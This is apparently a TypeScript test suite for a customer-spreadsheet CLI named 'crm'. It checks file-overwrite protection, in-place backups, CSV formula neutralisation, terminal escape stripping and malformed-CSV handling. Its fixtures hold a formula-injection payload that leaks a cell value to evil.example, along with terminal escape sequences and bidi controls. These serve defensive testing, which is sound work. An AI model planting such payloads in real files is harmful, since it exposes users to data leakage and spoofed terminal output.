// What the BUILT `crm` command must never do to the files a user owns: write over an input
// (whatever the path looks like), or change a workbook in place without an explicit --in-place
// and a .bak of it.
import { existsSync } from 'node:fs';
import { copyFile, link, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCrm, systemLocale } from './support/crm.ts';

const TODAY = '2026-03-01';

let dir: string;
let sample: { customers: string; orders: string; complaints: string };

function crm(args: string[], lang: 'en' | 'zh' = 'en') {
  return runCrm(args, { cwd: dir, env: systemLocale(lang === 'zh' ? 'zh_CN.UTF-8' : 'en_US.UTF-8') });
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'crm-safety-'));
  const demo = crm([
    'demo',
    '--out-dir',
    'demo',
    '--customers',
    '120',
    '--seed',
    '3',
    '--today',
    TODAY,
    '--quiet',
  ]);
  expect(demo.status).toBe(0);
  sample = {
    customers: join(dir, 'demo', 'sample-customers.xlsx'),
    orders: join(dir, 'demo', 'sample-orders.csv'),
    complaints: join(dir, 'demo', 'sample-complaints.csv'),
  };
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** A fresh copy of the sample inputs in their own folder. */
async function inputs(name: string) {
  const folder = join(dir, name);
  await mkdir(folder, { recursive: true });
  const files = {
    book: join(folder, 'customers.xlsx'),
    orders: join(folder, 'orders.csv'),
    config: join(folder, 'settings.json'),
  };
  await copyFile(sample.customers, files.book);
  await copyFile(sample.orders, files.orders);
  await writeFile(files.config, '{"language":"en"}\n');
  return { folder, ...files };
}

describe('an --out that is an input is refused, the input untouched', () => {
  it.each([
    ['clean', (f: { book: string }) => ['clean', '--in', f.book, '--out', f.book]],
    ['followups', (f: { book: string }) => ['followups', '--in', f.book, '--out', f.book]],
    ['classify', (f: { book: string }) => ['classify', '--in', f.book, '--out', f.book]],
  ])('%s --in book.xlsx --out book.xlsx', async (command, args) => {
    const f = await inputs(`same-${command}`);
    const before = await readFile(f.book);
    const run = crm([...args(f), '--today', TODAY]);
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(
      `--out ${f.book} is the input file ${f.book} (--in); writing would overwrite it`,
    );
    expect((await readFile(f.book)).equals(before)).toBe(true);
    if (command === 'classify') expect(run.stderr).toContain('--in-place');
  });

  it('sees through a symbolic link, "..", and a hard link, for every input option', async () => {
    const f = await inputs('aliases');
    const before = {
      book: await readFile(f.book),
      orders: await readFile(f.orders),
      config: await readFile(f.config),
    };
    await symlink(f.book, join(f.folder, 'link.xlsx'));
    await mkdir(join(f.folder, 'sub'));
    await link(f.orders, join(f.folder, 'hard-link.csv'));
    const runs = [
      ['clean', '--in', f.book, '--today', TODAY, '--out', join(f.folder, 'link.xlsx')],
      ['followups', '--in', f.book, '--today', TODAY, '--out', join(f.folder, 'sub', '..', 'customers.xlsx')],
      ['followups', '--in', f.book, '--orders', f.orders, '--out', join(f.folder, 'hard-link.csv')],
      ['report', '--in', f.book, '--config', f.config, '--out', f.config],
      ['clv', '--orders', f.orders, '--out', join(f.folder, 'hard-link.csv')],
    ];
    for (const args of runs) {
      const run = crm(args);
      expect(run.status, args.join(' ')).toBe(1);
      expect(run.stderr, args.join(' ')).toMatch(/is the input file .* \(--(in|orders|config)\)/);
    }
    expect((await readFile(f.book)).equals(before.book)).toBe(true);
    expect((await readFile(f.orders)).equals(before.orders)).toBe(true);
    expect((await readFile(f.config)).equals(before.config)).toBe(true);
  });

  it('says so in Chinese on a Chinese system', async () => {
    const f = await inputs('zh');
    const run = crm(['clean', '--in', f.book, '--out', f.book], 'zh');
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(`--out ${f.book} 就是输入文件 ${f.book}（--in）：写出会覆盖它`);
  });

  it('still writes an --out that is merely in the same folder', async () => {
    const f = await inputs('beside');
    const run = crm(['clean', '--in', f.book, '--out', join(f.folder, 'review.xlsx'), '--today', TODAY]);
    expect(run.status).toBe(0);
    expect(existsSync(join(f.folder, 'review.xlsx'))).toBe(true);
  });
});

async function headerOf(path: string): Promise<unknown[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error(`${path} has no worksheet`);
  return (sheet.getRow(1).values as unknown[]).slice(1);
}

describe('classify --in-place', () => {
  it('writes the managed columns into the workbook itself after saving it as .bak', async () => {
    const f = await inputs('in-place');
    const original = await readFile(f.book);
    const userHeader = await headerOf(f.book);
    const run = crm(['classify', '--in', f.book, '--in-place', '--today', TODAY, '--no-clv', '--quiet']);
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    expect(run.stdout).toContain(`wrote ${f.book} (the file as it was: ${f.book}.bak)`);
    expect((await readFile(`${f.book}.bak`)).equals(original)).toBe(true);
    const header = await headerOf(f.book);
    expect(header.slice(0, userHeader.length)).toEqual(userHeader);
    expect(header).toContain('Segment');

    // A second run re-uses the columns; the .bak is the workbook as this run found it.
    const once = await readFile(f.book);
    expect(crm(['classify', '--in', f.book, '--in-place', '--today', TODAY, '--no-clv']).status).toBe(0);
    expect((await readFile(`${f.book}.bak`)).equals(once)).toBe(true);
    expect(await headerOf(f.book)).toEqual(header);
  });

  it('is refused with --out and on a Google Sheet', () => {
    const both = crm(['classify', '--in', sample.customers, '--in-place', '--out', 'x.xlsx']);
    expect(both.status).toBe(1);
    expect(both.stderr).toContain('use either --in-place or --out');
    const sheet = crm(['classify', '--spreadsheet', 'abc', '--in-place']);
    expect(sheet.status).toBe(1);
    expect(sheet.stderr).toContain('--in-place is for a local file');
  });
});

describe('--help promises only what the commands do', () => {
  it('clean says it changes nothing; classify documents --in-place and its .bak', () => {
    expect(crm(['clean', '--help']).stdout).toContain('Changes nothing in the customer table');
    const classify = crm(['classify', '--help']).stdout.replace(/\s+/g, ' ');
    expect(classify).toContain('--in-place');
    expect(classify).toContain('after saving it as a .bak beside it');
    expect(classify).toContain('never one of the inputs');
  });
});

/** A customer workbook whose text cells would all run as formulas if a CSV carried them bare. */
async function hostileWorkbook(path: string): Promise<void> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('客户');
  sheet.addRow(['客户编号', '姓名', '公司', '手机', '最近购买日期', '消费金额', '备注', '余额']);
  const link = '=HYPERLINK("http://evil.example/?"&A2,"点我")';
  sheet.addRow(['C001', link, '+1+1', '+8613912345678', new Date(Date.UTC(2026, 1, 2)), 1200, '@SUM(1)', -5]);
  sheet.addRow([
    'C002',
    '-2+3',
    '\t=1+1',
    '13912345679',
    new Date(Date.UTC(2026, 0, 15)),
    300,
    '=1+1',
    -1234.5,
  ]);
  sheet.addRow([
    'C003',
    '张三',
    '上海云杉贸易有限公司',
    '13812345678',
    new Date(Date.UTC(2025, 11, 1)),
    80,
    '老客户',
    0,
  ]);
  await workbook.xlsx.writeFile(path);
}

/** Every cell of a CSV file as a spreadsheet would receive it (the BOM dropped). */
async function csvCells(path: string): Promise<string[][]> {
  const text = (await readFile(path, 'utf8')).replace(/^\uFEFF/, '');
  return Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
}

describe('text stays text in every CSV crm writes', () => {
  it('classify, clean and followups neutralise formula-like text from an .xlsx; real numbers stay numbers', async () => {
    const folder = join(dir, 'hostile');
    await mkdir(folder, { recursive: true });
    const book = join(folder, 'customers.xlsx');
    await hostileWorkbook(book);
    for (const [command, out] of [
      ['classify', 'classified.csv'],
      ['clean', 'review.csv'],
      ['followups', 'tasks.csv'],
    ] as const) {
      const run = crm([command, '--in', book, '--today', TODAY, '--quiet', '--out', join(folder, out)]);
      expect(run.status, run.stderr).toBe(0);
      const cells = (await csvCells(join(folder, out))).flat();
      const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(?:\.\d+)?$/.test(cell));
      expect(live, `${command}: cells a spreadsheet would run`).toEqual([]);
    }
    const classified = await csvCells(join(folder, 'classified.csv'));
    expect(classified[1]?.slice(0, 4)).toEqual([
      'C001',
      `'=HYPERLINK("http://evil.example/?"&A2,"点我")`,
      "'+1+1",
      "'+8613912345678",
    ]);
    expect(classified[1]?.[6]).toBe("'@SUM(1)");
    expect(classified[2]?.slice(0, 3)).toEqual(['C002', "'-2+3", "'\t=1+1"]);
    expect(classified[2]?.[6]).toBe("'=1+1");
    // The balance column holds real numbers: a negative one is written as the number it is.
    expect(classified.slice(1).map((row) => row[7])).toEqual(['-5', '-1234.5', '0']);
  });

  it('reads its own CSV back as the table it came from (phones, names, the apostrophe gone)', async () => {
    const folder = join(dir, 'hostile');
    const again = crm([
      'classify',
      '--in',
      join(folder, 'classified.csv'),
      '--today',
      TODAY,
      '--json',
      '--quiet',
    ]);
    expect(again.status, again.stderr).toBe(0);
    const customers = (JSON.parse(again.stdout) as { customers: { id: string; name: string }[] }).customers;
    expect(customers.map((c) => c.name)).toEqual([
      '=HYPERLINK("http://evil.example/?"&A2,"点我")',
      '-2+3',
      '张三',
    ]);
    const issues = (JSON.parse(again.stdout) as { issues: { column: string }[] }).issues;
    expect(issues.filter((issue) => issue.column === '手机')).toEqual([]);
  });
});

/** What a terminal would act on: ESC, CSI, BEL, a carriage return, other C0/C1 controls, bidi controls. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point.
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

describe('crm prints no escape sequence that came from a cell or a page', () => {
  it('clean, classify and extract print names and cells without their control characters', async () => {
    const folder = join(dir, 'escapes');
    await mkdir(folder, { recursive: true });
    // A CSV carries any character (an .xlsx cannot hold C0 controls: XML 1.0 forbids them).
    const book = join(folder, 'customers.csv');
    const link = '\u001b]8;;https://evil.example\u0007点我\u001b]8;;\u0007';
    const rows = [
      ['客户编号', '姓名', '手机', '邮箱', '最近购买日期', '消费金额'],
      ['C001', `张伟${link}`, '\u001b[2J139 1234', 'li\u009b31m@bad', '2026-02-30', '12\u0007元'],
      ['C002', '\u001b]0;pwned\u0007王芳\u202e', '13912345679', 'wang@example.com', '2026-01-02', '300'],
    ];
    await writeFile(book, `${rows.map((row) => row.map((cell) => `"${cell}"`).join(',')).join('\r\n')}\r\n`);

    const clean = crm(['clean', '--in', book, '--today', TODAY, '--quiet']);
    expect(clean.status, clean.stderr).toBe(0);
    expect(clean.stdout).toContain('139 1234');
    expect(clean.stdout).not.toMatch(CONTROL);
    const classify = crm(['classify', '--in', book, '--today', TODAY, '--quiet', '--json']);
    expect(classify.status, classify.stderr).toBe(0);
    expect(classify.stdout).not.toMatch(CONTROL);
    // JSON keeps the data: the escapes are written as \u escapes, which parse back to the cell.
    const names = (JSON.parse(classify.stdout) as { customers: { name: string }[] }).customers.map(
      (c) => c.name,
    );
    expect(names[0]).toBe(`张伟${link}`);

    const page = join(folder, 'page.html');
    await writeFile(
      page,
      '<html><body><div class="vcard"><span class="fn">Li\u001b[31m Lei\u001b]0;x\u0007</span> <a href="mailto:li.lei@example.com">li.lei@example.com</a> Tel: +44 20 7946 0958</div></body></html>',
    );
    const extract = crm(['extract', page]);
    expect(extract.status, extract.stderr).toBe(0);
    expect(extract.stdout).toContain('li.lei@example.com');
    expect(extract.stdout).not.toMatch(CONTROL);
    // A file name is printed too.
    const odd = join(folder, 'odd\u001b[31m.csv');
    const missing = crm(['clean', '--in', odd]);
    expect(missing.status).toBe(1);
    expect(missing.stderr).not.toMatch(CONTROL);
  });
});

describe('phone numbers are E.164 or an issue', () => {
  it('79447151183632 read in DE is refused, never a 16-digit "+49…"', async () => {
    const folder = join(dir, 'phones');
    await mkdir(folder, { recursive: true });
    const book = join(folder, 'kunden.csv');
    await writeFile(
      book,
      'Customer ID,Name,Mobile\r\nK1,Anna Schmidt,79447151183632\r\nK2,Ben Weber,030 901820\r\n',
    );
    const run = crm(['clean', '--in', book, '--region', 'DE', '--json', '--quiet']);
    expect(run.status, run.stderr).toBe(0);
    const review = JSON.parse(run.stdout) as { invalid: { row: number; column: string; value: string }[] };
    expect(review.invalid).toContainEqual(
      expect.objectContaining({ row: 2, column: 'Mobile', value: '79447151183632' }),
    );
    expect(run.stdout).not.toMatch(/\+\d{16}/);
  });
});

describe('a CSV that is no table stops crm at once, with why, and nothing written', () => {
  it('an orders file whose quote mark is never closed (read in the orders thread): the row where it starts', async () => {
    const { folder, book } = await inputs('open-quote');
    const orders = (await readFile(sample.orders, 'utf8')).split(/\r?\n/);
    // The orders without a quoted cell ("¥1,234.50"), as most order exports are: nothing closes
    // the quote row 4 opens in its first cell, and 24 MB of orders follow it.
    const [header, ...rows] = orders.filter((line) => line !== '' && !line.includes('"'));
    const broken = `"${rows[2]}`;
    const rest = Array.from({ length: Math.ceil(24e6 / rows.join('\n').length) }, () => rows.join('\n'));
    await writeFile(join(folder, 'orders.csv'), [header, rows[0], rows[1], broken, ...rest, ''].join('\n'));
    const out = join(folder, 'classified.csv');
    const run = crm([
      'classify',
      '--in',
      book,
      '--orders',
      join(folder, 'orders.csv'),
      '--today',
      TODAY,
      '--out',
      out,
      '--quiet',
    ]);
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(
      `cannot read ${join(folder, 'orders.csv')}: the row that starts at row 4 runs on past 16,777,216 characters: most likely a quote mark (") that is never closed`,
    );
    expect(existsSync(out)).toBe(false);
  });

  it('a customer file with a quote mark that does not close its cell: no customer lost in it', async () => {
    const folder = join(dir, 'stray-quote');
    await mkdir(folder, { recursive: true });
    const customers = join(folder, 'customers.csv');
    // A name typed as "王芳 in a tool that does not double quotes: the rows after it would be her name.
    await writeFile(
      customers,
      '客户编号,姓名,手机\r\nC001,张伟,13912345678\r\nC002,"王芳,13812345678\r\nC003,李娜,13712345678\r\nC004,赵磊,13612345678\r\n',
    );
    const out = join(folder, 'classified.csv');
    const run = crm(['classify', '--in', customers, '--today', TODAY, '--out', out, '--quiet']);
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(
      `cannot read ${customers}: row 3, column 2 (B): a quote mark (") there does not close its cell, so the 2 lines after it would be read into that one cell ("王芳,13812345678")`,
    );
    expect(existsSync(out)).toBe(false);
  });

  it('an .xlsx workbook under a .csv name, in Chinese', async () => {
    const { folder, book } = await inputs('renamed-workbook');
    const renamed = join(folder, '客户.csv');
    await copyFile(book, renamed);
    const run = crm(['clean', '--in', renamed, '--quiet'], 'zh');
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(
      `无法读取 ${renamed}：这是一个 .xlsx 工作簿（或别的压缩文件），只是扩展名写成了 .csv：请把扩展名改为 .xlsx 后再试`,
    );
  });
});
